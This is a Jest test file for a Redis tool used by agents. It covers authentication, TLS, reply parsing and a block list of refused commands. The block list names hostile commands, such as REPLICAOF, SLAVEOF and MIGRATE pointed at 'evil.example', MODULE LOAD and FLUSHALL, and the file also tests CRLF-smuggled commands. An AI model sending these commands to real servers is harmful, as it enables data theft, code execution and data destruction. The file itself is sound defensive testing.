import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { type Certificate, makeCertificate } from '../../../../test/support/certificate.ts';
import { describeWithProgram } from '../../../../test/support/describe-with-program.ts';
import { RedisFake } from '../../../../test/support/redis-fake.ts';
import { type StartedProgram, startProgram } from '../../../../test/support/started-program.ts';
import {
  createTestTools,
  prepareCall,
  type TestIntegration,
  type TestTools,
} from '../../../../test/support/tool-context.ts';
import { redis } from './database.ts';

const PASSWORD = 'the-password-of-the-cache';

function integration(name: string, apiUrl: string, more: Partial<TestIntegration> = {}): TestIntegration {
  return { kind: 'redis', name, apiUrl, fields: [], secretPlaces: [], secrets: { password: PASSWORD }, ...more };
}

function sender(tools: () => TestTools) {
  return async (line: string, connection = 'cache') => {
    const [command, ...args] = line.split(' ');
    return (await prepareCall(redis, { connection, command, args }).run(tools().context)).value;
  };
}

test.each([
  ['get a', 'read'],
  ['SCAN 0 MATCH user:* COUNT 10', 'read'],
  ['XREAD STREAMS block 0', 'read'],
  ['xread count 5 streams a BLOCK 0 0', 'read'],
  ['XREADGROUP GROUP block BLOCK NOACK COUNT 1 CLAIM 9 STREAMS a >', 'once'],
  ['SET a 1 EX 5', 'keyed'],
  ['SET NX NX', 'keyed'],
  ['SET a 1 NX', 'once'],
  ['DEL a', 'keyed'],
  ['INCR a', 'once'],
  ['LPUSH a b', 'once'],
])('%s is %s', (line, effect) => {
  const [command, ...args] = line.split(' ');
  expect(redis.prepare({ command, args })).toMatchObject({ effect, approval: 'writes' });
});

describe('a Redis server', () => {
  let fake: RedisFake;
  let secure: RedisFake;
  let certificate: Certificate;
  let tools: TestTools;
  const send = sender(() => tools);
  beforeAll(async () => {
    certificate = await makeCertificate();
    fake = await RedisFake.start();
    secure = await RedisFake.start(certificate);
    const at = `redis://127.0.0.1:${fake.port}`;
    tools = await createTestTools({
      privateHosts: `127.0.0.1:${fake.port},127.0.0.1:${secure.port}`,
      integrations: [
        integration('cache', `${at}/3`),
        integration('named', at, { secrets: { user: 'agents', password: PASSWORD } }),
        integration('open', at, { secrets: {} }),
        integration('writable', at, { settings: { allow_writes: 'yes' } }),
        integration('elsewhere', 'redis://127.0.0.1:1'),
        integration('unknown', `rediss://127.0.0.1:${secure.port}`),
        integration('encrypted', `rediss://127.0.0.1:${secure.port}`, {
          secrets: { password: PASSWORD, ca: certificate.cert },
        }),
      ],
    });
  });
  afterAll(async () => {
    await tools.close();
    fake.close();
    secure.close();
  });
  beforeEach(() => {
    fake.seen.length = 0;
    fake.reply = () => '+OK\r\n';
  });

  test.each([
    [
      'cache',
      [
        ['AUTH', PASSWORD],
        ['SELECT', '3'],
      ],
    ],
    [
      'named',
      [
        ['AUTH', 'agents', PASSWORD],
        ['SELECT', '0'],
      ],
    ],
    ['open', [['SELECT', '0']]],
  ])('is signed in to with what the integration %s has', async (connection, begin) => {
    expect(await send('GET a', connection)).toBe('OK');
    expect(fake.seen).toEqual([...begin, ['GET', 'a']]);
  });

  test('gets each part of a command as it is', async () => {
    const args = ['a\r\n*1\r\n$8\r\nFLUSHALL\r\n', 'ü "x"'];
    await prepareCall(redis, { connection: 'writable', command: 'MSET', args }).run(tools.context);
    expect(fake.seen.at(-1)).toEqual(['MSET', ...args]);
  });

  test.each<[string, string | Buffer, unknown]>([
    ['a text', '$5\r\nhe\r\no\r\n', 'he\r\no'],
    ['bytes', Buffer.from('$2\r\n\u00ff\u0000\r\n', 'latin1'), { base64: '/wA=' }],
    ['nothing', '$-1\r\n', null],
    ['a number', ':-42\r\n', -42],
    ['a number beyond those of JSON', ':9223372036854775807\r\n', '9223372036854775807'],
    ['a list', '*3\r\n$1\r\na\r\n*1\r\n:1\r\n-ERR no\r\n', ['a', [1], { error: 'ERR no' }]],
    ['no list', '*-1\r\n', null],
  ])('answers %s', async (_what, bytes, value) => {
    fake.reply = ([name]) => (name === 'GET' ? bytes : '+OK\r\n');
    expect(await send('GET a')).toEqual(value);
  });

  test.each<[string, string, string]>([
    ['something else', 'HTTP/1.1 400 Bad Request\r\n', 'no Redis server'],
    ['an endless line', '+'.padEnd(100_000, 'x'), 'a line without an end'],
    ['endless nesting', '*1\r\n'.repeat(100), 'too many parts'],
    ['an endless list', `*999999999\r\n${':1\r\n'.repeat(300_000)}`, 'too many parts'],
    ['too much', `$99999999\r\n${'x'.repeat(9_000_000)}`, 'The answer is larger than'],
    ['an error', `-ERR no such thing as ${PASSWORD}\r\n`, 'refuses the command: ERR no such thing as ***'],
  ])('that answers %s is not believed', async (_what, bytes, words) => {
    fake.reply = ([name]) => (name === 'GET' ? bytes : '+OK\r\n');
    await expect(send('GET a')).rejects.toThrow(words);
  });

  test('that closes the connection leaves it open whether something was changed', async () => {
    fake.reply = ([name], socket) => (name === 'GET' || name === 'INCR' ? void socket.destroy() : '+OK\r\n');
    await expect(send('INCR a', 'writable')).rejects.toMatchObject({ kind: 'upstream', isUncertain: true });
    await expect(send('GET a')).rejects.toMatchObject({ kind: 'upstream', isUncertain: false });
  });

  test.each(['-WRONGPASS invalid\r\n', '-NOAUTH required\r\n', '-ERR Client sent AUTH, but no password is set\r\n'])(
    'that answers %j has rejected the credentials',
    async (bytes) => {
      fake.reply = () => bytes;
      await expect(send('GET a')).rejects.toThrow('Redis has rejected the credentials');
    },
  );

  test('is spoken to over TLS when its certificate is valid', async () => {
    expect(await send('GET a', 'encrypted')).toBe('OK');
    await expect(send('GET a', 'unknown')).rejects.toThrow('its certificate is invalid');
  });

  test('is not reached where the operator does not allow it, nor by a name in the command', async () => {
    await expect(send('GET a', 'elsewhere')).rejects.toThrow('leads to a private address');
    expect(() => prepareCall(redis, { command: 'GET a\r\nFLUSHALL' })).toThrow('command');
  });

  test.each([
    ['FLUSHALL', 'is not run'],
    ['flushdb', 'is not run'],
    ['CONFIG GET dir', 'is not run'],
    ['EVAL return 0', 'is not run'],
    ['FCALL f 0', 'is not run'],
    ['SCRIPT LOAD x', 'is not run'],
    ['MODULE LOAD /tmp/x.so', 'is not run'],
    ['DEBUG SLEEP 9', 'is not run'],
    ['SHUTDOWN', 'is not run'],
    ['SLAVEOF evil.example 6379', 'is not run'],
    ['REPLICAOF evil.example 6379', 'is not run'],
    ['MIGRATE evil.example 6379 a 0 5', 'is not run'],
    ['ACL SETUSER x', 'is not run'],
    ['SAVE', 'is not run'],
    ['MONITOR', 'is not run'],
    ['SUBSCRIBE x', 'is not run'],
    ['MULTI', 'is not run'],
    ['BLPOP a 0', 'is not run'],
    ['SORT a STORE b', 'is not run'],
    ['MEMORY PURGE', 'is not run'],
    ['OBJECT HELP', 'is not run'],
    ['XREAD COUNT 1 block 0 STREAMS a 0', 'it would wait'],
    ['xread BLOCK 0 STREAMS a 0', 'it would wait'],
    ['XREADGROUP GROUP g c BlOcK 0 STREAMS a >', 'it would wait'],
    ['XREADGROUP block 0 GROUP g c STREAMS a >', 'it would wait'],
    ['XREADGROUP GROUP streams STREAMS COUNT 1 BLOCK 0 STREAMS a >', 'it would wait'],
    ['XREADGROUP GROUP g streams NOACK BLOCK 0 STREAMS a >', 'it would wait'],
    ['XREAD COUNT streams BLOCK 0 STREAMS a 0', 'it would wait'],
    ['XREAD LATER streams BLOCK 0 STREAMS a 0', 'takes COUNT'],
    ...(
      'BLPOP BRPOP BLMOVE BLMPOP BRPOPLPUSH BZPOPMIN BZPOPMAX BZMPOP WAIT WAITAOF ' +
      'SUBSCRIBE PSUBSCRIBE SSUBSCRIBE MONITOR SYNC PSYNC'
    )
      .split(' ')
      .flatMap((name): [string, string][] => [
        [`${name} a 0`, 'it would wait'],
        [`${name.toLowerCase()} a 0`, 'it would wait'],
      ]),
    ['UNSUBSCRIBE x', 'is not run'],
    ['CLIENT PAUSE 1000', 'is not run'],
    ['KEYS *', 'use SCAN'],
    ['SET a 1', 'allows no writes'],
    ['INCR a', 'allows no writes'],
  ])('is not sent %s', async (line, words) => {
    await expect(send(line)).rejects.toThrow(words);
    expect(fake.seen).toEqual([]);
  });
});

describeWithProgram('a real Redis server', ['redis-server', 'valkey-server'], (path) => {
  let server: StartedProgram;
  let tools: TestTools;
  const send = sender(() => tools);
  beforeAll(async () => {
    server = await startProgram(path, {
      args: async ({ port }) => [
        '--port',
        String(port),
        '--bind',
        '127.0.0.1',
        '--save',
        '',
        '--requirepass',
        PASSWORD,
      ],
    });
    const at = `redis://127.0.0.1:${server.port}`;
    tools = await createTestTools({
      privateHosts: `127.0.0.1:${server.port}`,
      integrations: [
        integration('cache', at, { settings: { allow_writes: 'yes' } }),
        integration('open', at, { secrets: {} }),
        integration('wrong', at, { secrets: { password: 'something-else' } }),
      ],
    });
  });
  afterAll(async () => {
    await tools.close();
    await server.stop();
  });

  test('keeps and finds what agents write', async () => {
    expect(await send('HSET user:1 name Ada age 36')).toBe(2);
    expect(await send('HGETALL user:1')).toEqual(['name', 'Ada', 'age', '36']);
    expect(await send('SCAN 0 MATCH user:*')).toEqual(['0', ['user:1']]);
    expect(await send('XADD log * event started')).toMatch(/^\d+-\d$/);
    expect(await send('XRANGE log - +')).toEqual([[expect.any(String), ['event', 'started']]]);
    await expect(send('INCR user:1')).rejects.toThrow('WRONGTYPE');
  });

  test.each(['open', 'wrong'])('rejects credentials of the integration %s', async (connection) => {
    await expect(send('GET a', connection)).rejects.toThrow('Redis has rejected the credentials');
  });
});
